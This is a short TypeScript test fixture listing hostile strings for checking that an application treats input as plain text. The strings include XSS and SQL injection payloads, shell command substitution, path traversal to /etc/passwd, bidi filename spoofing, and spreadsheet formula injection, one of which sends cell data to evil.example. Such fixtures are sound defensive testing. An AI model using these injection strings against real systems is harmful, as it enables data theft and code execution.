/** Texts that break what does not take them for text: markup, formulas, control and direction characters, great length. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(2)><style>*{display:none}</style>',
  "\"><svg/onload=alert(1)>' autofocus onfocus=alert(1) x='",
  '\'; DROP TABLE responses; -- \\" $1 %s %n $(whoami) `id` {{7*7}}',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1\r\n+2+2',
  '\uff1d1+1 -2+3',
  '\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e\u200b\ufeff\u061c',
  '\u0000nul \u0007bell \u001b[31mred\u001b[0m \u0008\u0085\u007f line\u2028paragraph\u2029',
  `${'W'.repeat(1990)} ${'漢字'.repeat(995)}`,
  '"quotes" \'single\' „low“ «guillemets»; semicolon, comma\r\nsecond line\n\nfourth',
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇧🇪 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319 a\u0301\u0323',
  '\ud800 half \udfff of a character',
  '__proto__ constructor toString null undefined NaN true 0',
  'javascript:alert(1) https://evil.example/login BE68 5390 0754 7034 data:text/html,<b>x</b>',
  '../../../etc/passwd?x=1#/enrol/abc%00%2e%2e',
];
